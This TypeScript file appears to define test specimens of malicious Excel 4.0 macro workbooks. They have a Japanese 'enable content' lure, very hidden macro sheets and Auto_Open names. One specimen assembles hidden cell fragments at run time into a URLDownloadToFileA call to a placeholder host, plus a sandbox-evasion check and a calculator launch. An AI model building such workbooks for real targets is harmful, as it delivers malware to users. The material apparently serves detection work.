// What the three formats of a workbook with Excel 4.0 macro sheets are made from.
import { cellAt, type Formula, fn, join, less, placeOf } from './formula.ts'

export interface SheetSpecimen {
  readonly name: string
  readonly kind?: 'macro' | 'worksheet'
  readonly state?: 'visible' | 'hidden' | 'veryHidden'
  /** By reference: `A1`. */
  readonly cells: Readonly<Record<string, string | number | Formula>>
}

export interface NameSpecimen {
  /** `Auto_Open` is written as Excel's builtin name, any other spelling as it is. */
  readonly name: string
  readonly refersTo: Formula
  readonly hidden?: boolean
}

export interface MacroWorkbook {
  readonly name?: string
  readonly sheets?: readonly SheetSpecimen[]
  readonly names?: readonly NameSpecimen[]
}

export interface PlacedCell {
  readonly row: number
  readonly col: number
  readonly content: string | number | Formula
}

/** In the order of rows, as Excel stores them. */
export function placed({ cells }: SheetSpecimen): PlacedCell[] {
  return Object.entries(cells)
    .map(([reference, content]) => ({ ...placeOf(reference), content }))
    .toSorted((a, b) => a.row - b.row || a.col - b.col)
}

const LURE: SheetSpecimen = { name: 'Sheet1', cells: { A1: '内容を表示するには「コンテンツの有効化」を押してください' } }

/** A visible sheet with a lure and a very hidden macro sheet that starts the calculator. */
export const startsCalculator: Required<Pick<MacroWorkbook, 'sheets' | 'names'>> = {
  sheets: [LURE, { name: 'Macro1', kind: 'macro', state: 'veryHidden', cells: { A1: fn('EXEC', 'calc.exe'), A2: fn('RETURN') } }],
  names: [{ name: 'Auto_Open', refersTo: cellAt('A1', 'Macro1'), hidden: true }],
}

/**
 * Nothing of what it does stands in it as text: letters on two hidden sheets are put together into formulas while it
 * runs, one after the other down a column.
 */
export const assembledFromLetters: Required<Pick<MacroWorkbook, 'sheets' | 'names'>> = {
  sheets: [
    LURE,
    { name: 'Vv1', state: 'hidden', cells: { P22: '=', H9: 'E', B3: 'X', K7: 'C(', D2: '"' } },
    {
      name: 'Vv2',
      state: 'veryHidden',
      cells: { A1: 'ca', C5: 'lc.', F8: 'exe', G1: 'u', G2: 'rlm', G3: 'on', J1: 'http://', J2: 'download.example.com' },
    },
    {
      name: 'Macro1',
      kind: 'macro',
      state: 'veryHidden',
      cells: {
        F2: fn(
          'FORMULA',
          join(
            cellAt('P22', 'Vv1'),
            'CALL(',
            cellAt('D2', 'Vv1'),
            cellAt('G1', 'Vv2'),
            cellAt('G2', 'Vv2'),
            cellAt('G3', 'Vv2'),
            '","URLDownloadToFileA","JJCCBB",0,"',
            cellAt('J1', 'Vv2'),
            cellAt('J2', 'Vv2'),
            '/x.dll","..\\x.ocx",0,0)',
          ),
          cellAt('F12'),
        ),
        F3: fn('IF', less(fn('GET.WORKSPACE', 13), 770), fn('CLOSE', 0)),
        F4: fn(
          'FORMULA',
          join(
            cellAt('P22', 'Vv1'),
            cellAt('H9', 'Vv1'),
            cellAt('B3', 'Vv1'),
            cellAt('H9', 'Vv1'),
            cellAt('K7', 'Vv1'),
            cellAt('D2', 'Vv1'),
            cellAt('A1', 'Vv2'),
            cellAt('C5', 'Vv2'),
            cellAt('F8', 'Vv2'),
            fn('CHAR', 34),
            ')',
          ),
          cellAt('F13'),
        ),
        F14: fn('RETURN'),
      },
    },
  ],
  names: [{ name: 'Auto_Open', refersTo: cellAt('F2', 'Macro1'), hidden: true }],
}
